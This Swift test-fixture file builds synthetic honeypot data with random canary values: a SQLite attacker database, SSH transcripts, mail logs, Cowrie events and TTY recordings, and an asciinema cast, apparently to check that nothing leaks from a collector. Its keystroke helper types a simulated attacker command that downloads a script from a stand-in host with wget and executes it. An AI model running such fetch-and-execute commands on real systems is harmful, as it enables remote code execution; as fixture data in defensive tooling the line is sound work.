import Foundation
import GRDB
import Primitives

/// Sources of every kind, full of identities that must not leave: each is invented, unlike anything else, and remembered.
struct PlantedSources {
    let folder: String
    /// Everything that must never be found outside the collector.
    private(set) var canaries: [String] = []
    private var random: SeededGenerator

    init(folder: String, seed: UInt64, count: Int) throws {
        self.folder = folder
        random = SeededGenerator(seed: seed)
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        try plantDatabase(count)
        try plantShard(count)
        try plantMailLog(count)
        try plantCowrie(count)
        try plantCast()
    }

    private mutating func plant(_ text: String) -> String {
        canaries.append(text)
        return text
    }

    private mutating func uuid() -> String {
        let hex = Hex.encode(random.bytes(count: 16))
        let parts = [8, 4, 4, 4, 12]
        var rest = Substring(hex)
        return plant(
            parts.map { length in
                defer { rest = rest.dropFirst(length) }
                return String(rest.prefix(length))
            }.joined(separator: "-"))
    }

    private mutating func ipv4() -> String {
        plant("203.\(100 + random.number(below: 155)).\(100 + random.number(below: 155)).\(100 + random.number(below: 155))")
    }

    private mutating func ipv6() -> String {
        plant("2001:db8:" + (0..<6).map { _ in String(0x1000 + random.number(below: 0xEFFF), radix: 16) }.joined(separator: ":"))
    }

    private mutating func word(_ prefix: String) -> String { plant(prefix + Hex.encode(random.bytes(count: 6))) }

    private mutating func plantDatabase(_ count: Int) throws {
        let queue = try DatabaseQueue(path: folder + "/decnet.db")
        try queue.write { database in
            try database.execute(
                sql: """
                    CREATE TABLE attackers (uuid VARCHAR PRIMARY KEY, ip VARCHAR, first_seen DATETIME, last_seen DATETIME, deckies TEXT, commands TEXT);
                    CREATE TABLE logs (id INTEGER PRIMARY KEY, timestamp DATETIME, decky VARCHAR, service VARCHAR, event_type VARCHAR, attacker_ip VARCHAR, fields TEXT);
                    CREATE TABLE session_profile (sid VARCHAR PRIMARY KEY, log_id INTEGER, schema_version INTEGER, kd_digraph_simhash BLOB, total_keystrokes INTEGER,
                        kd_top_bigrams TEXT, created_at DATETIME);
                    CREATE TABLE smtp_targets (id INTEGER PRIMARY KEY, attacker_uuid VARCHAR, domain VARCHAR, first_seen DATETIME, last_seen DATETIME, count INTEGER);
                    """)
            let time = "\(Recent.day) 08:00:00.000000"
            for index in 0..<count {
                let (attacker, address, sid) = (uuid(), index.isMultiple(of: 2) ? ipv4() : ipv6(), uuid())
                let (decky, command) = (word("decoy-"), word("command-"))
                try database.execute(
                    sql: "INSERT INTO attackers VALUES (?, ?, ?, ?, ?, ?)", arguments: [attacker, address, time, time, "[\"\(decky)\"]", command])
                try database.execute(
                    sql: "INSERT INTO logs VALUES (?, ?, ?, 'sessrec', 'session_recorded', ?, ?)",
                    arguments: [index, time, decky, address, "{\"sid\":\"\(sid)\",\"src_ip\":\"\(address)\",\"service\":\"ssh\"}"])
                try database.execute(
                    sql: "INSERT INTO session_profile VALUES (?, ?, 1, ?, 400, ?, ?)",
                    arguments: [sid, index, Data(random.bytes(count: 8)), "[[\"\(word("bigram-"))\",9,0.1]]", time])
                try database.execute(
                    sql: "INSERT INTO smtp_targets VALUES (?, ?, ?, ?, ?, 3)",
                    arguments: [index, attacker, "\(word("host-")).seen-\(index % 7).com", time, time])
            }
        }
    }

    private mutating func keys(with secrets: [String]) -> [(Double, String)] {
        var time = 0.5
        var keys: [(Double, String)] = []
        for secret in secrets + ["cat /proc/cpuinfo | grep name; ls -la /usr/bin /etc /var/log; wget -q http://a.b/c.sh; chmod +x c.sh && ./c.sh"] {
            for key in secret + "\r" {
                time += 0.05 + Double(random.number(below: 200)) / 1_000
                keys.append(((time * 1_000_000).rounded() / 1_000_000, String(key)))
            }
        }
        return keys
    }

    private mutating func plantShard(_ count: Int) throws {
        let decky = word("decoy-")
        let path = folder + "/artifacts/\(decky)/ssh/transcripts"
        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
        var (lines, log) = ("", "")
        for _ in 0..<max(3, count / 20) {
            let (sid, address) = (uuid(), ipv6())
            lines += "{\"sid\":\"\(sid)\",\"hdr\":{\"version\":2,\"timestamp\":\(Recent.start + 30_000)}}\n"
            for (time, key) in keys(with: [word("password-"), word("file-")]) {
                lines += "{\"sid\":\"\(sid)\",\"t\":\(time),\"ch\":\"i\",\"d\":\"\(key == "\r" ? "\\r" : key)\"}\n"
            }
            log +=
                "<134>1 \(Recent.day)T09:00:00.000000+00:00 \(decky) sessrec - session_recorded [relay@55555 sid=\"\(sid)\" service=\"ssh\" src_ip=\"\(address)\" duration_s=\"60.0\" bytes=\"1\" truncated=\"false\"]\n"
        }
        try Data(lines.utf8).write(to: URL(fileURLWithPath: path + "/sessions-\(Recent.day).jsonl"))
        try Data(log.utf8).write(to: URL(fileURLWithPath: folder + "/sessions.log"))
    }

    private mutating func plantMailLog(_ count: Int) throws {
        let lines = (0..<count).map { index in
            MailLog.line(
                second: index % 80_000, source: index.isMultiple(of: 2) ? ipv4() : ipv6(), recipient: "\(word("local-"))@mail.aimed-at-\(index % 9).com")
        }
        try Data(lines.joined().utf8).write(to: URL(fileURLWithPath: folder + "/mail.log"))
    }

    private mutating func plantCowrie(_ count: Int) throws {
        try FileManager.default.createDirectory(atPath: folder + "/cowrie/tty", withIntermediateDirectories: true)
        var lines = ""
        for _ in 0..<max(3, count / 20) {
            let (session, address, name) = (word("cow"), ipv4(), word("tty"))
            let common =
                "\"session\":\"\(session)\",\"src_ip\":\"\(address)\",\"sensor\":\"\(word("sensor-"))\",\"protocol\":\"ssh\",\"timestamp\":\"\(Recent.day)T10:00:00.000000Z\""
            lines += "{\"eventid\":\"cowrie.session.connect\",\(common)}\n"
            lines += "{\"eventid\":\"cowrie.login.success\",\"username\":\"\(word("user-"))\",\"password\":\"\(word("password-"))\",\(common)}\n"
            lines += "{\"eventid\":\"cowrie.log.closed\",\"ttylog\":\"tty/\(name)\",\"duplicate\":false,\(common)}\n"
            var recording: [UInt8] = []
            func record(_ operation: UInt32, _ direction: UInt32, _ time: Double, _ data: [UInt8]) {
                for field in [
                    operation, 0, UInt32(data.count), direction, UInt32(Recent.start + 36_000) + UInt32(time), UInt32((time - time.rounded(.down)) * 1_000_000),
                ] {
                    recording += (0..<4).map { UInt8(field >> UInt32(8 * $0) & 0xFF) }
                }
                recording += data
            }
            record(1, 0, 0, [])
            for (time, key) in keys(with: [word("secret-")]) { record(3, 1, time, Array(key.utf8)) }
            try Data(recording).write(to: URL(fileURLWithPath: folder + "/cowrie/tty/" + name))
        }
        try Data(lines.utf8).write(to: URL(fileURLWithPath: folder + "/cowrie/cowrie.json"))
    }

    private mutating func plantCast() throws {
        var text = "{\"version\":2,\"width\":80,\"height\":24,\"timestamp\":\(Recent.start + 40_000),\"title\":\"\(word("title-"))\"}\n"
        for (time, key) in keys(with: [word("password-")]) { text += "[\(time),\"i\",\"\(key == "\r" ? "\\r" : key)\"]\n" }
        try Data(text.utf8).write(to: URL(fileURLWithPath: folder + "/session.cast"))
    }
}
